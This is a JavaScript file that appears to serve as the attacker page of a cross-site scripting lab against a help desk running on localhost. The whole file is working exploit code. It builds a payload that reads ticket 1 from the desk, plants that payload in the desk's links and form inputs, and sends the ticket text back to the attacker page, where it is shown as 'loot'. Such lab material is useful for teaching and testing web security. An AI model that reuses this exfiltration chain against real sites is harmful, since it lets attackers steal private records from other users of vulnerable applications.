// Aims the links and forms of this page at the help desk, and shows what they
// have brought back.

const asked = new URLSearchParams(location.search).get('service');
const desk = document.querySelector('#service');
if (asked && /^http:\/\/(127\.0\.0\.1|localhost):\d+\/?$/.test(asked)) {
  desk.href = asked;
  desk.textContent = asked;
}

// What runs at the desk: it reads ticket 1, and comes back here with it. There
// is no space, quotation mark or ">" in it, so that it fits in every place.
const here = `${location.origin}${location.pathname}?service=${new URL(desk.href).origin}`;
const steal =
  "fetch('/tickets/1').then(function(a){return(a.text())})" +
  `.then(function(t){location='${here}#'+encodeURIComponent(t)})`;
document.querySelector('#steal').textContent = steal;
const armed = (text) => text.replace('steal()', steal);

for (const link of document.querySelectorAll('a[data-path]')) {
  const target = new URL(link.dataset.path, desk.href);
  target.searchParams.set('q', armed(link.dataset.q));
  link.href = target.href;
}
for (const form of document.querySelectorAll('form[data-path]')) {
  form.action = new URL(form.dataset.path, desk.href).href;
  for (const input of form.querySelectorAll('input')) input.value = armed(input.value);
}

// The ticket comes as the source of its page. Read as text, it runs nothing.
if (location.hash.length > 1) {
  const page = new DOMParser().parseFromString(decodeURIComponent(location.hash.slice(1)), 'text/html');
  const name = page.querySelector('#name')?.textContent;
  const text = page.querySelector('#text')?.textContent;
  document.querySelector('#loot').textContent =
    name === undefined ? page.body.textContent : `Ticket 1, from ${name}: ${text}`;
}
